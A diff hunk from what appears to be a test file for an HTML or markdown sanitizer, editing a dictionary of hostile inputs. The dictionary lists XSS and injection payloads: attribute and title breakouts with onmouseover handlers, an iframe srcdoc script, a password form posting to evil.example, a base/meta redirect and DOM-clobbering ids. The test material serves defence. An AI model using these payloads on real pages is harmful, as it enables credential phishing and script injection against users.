@@ -28,7 +28,7 @@ HOSTILE = {
     "attribute break": '[a](https://x.example/"onmouseover="window.__ran=1)',
     "title break": '[a](https://x.example "t\\" onmouseover=\\"window.__ran=1")',
     "style": '<style>body{display:none}</style><p style="position:fixed;inset:0">x</p>',
-    "form": '<form action="https://evil.example/"><input name="password"><button>go</button></form>',
+    "form": '<form action="https://evil.example/"><input name="password"><button>go</button>',
     "frame": '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe><object data="x"></object>',
     "base and meta": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0">',
     "ids": '<a id="composer" name="thread">x</a><div id="app">',
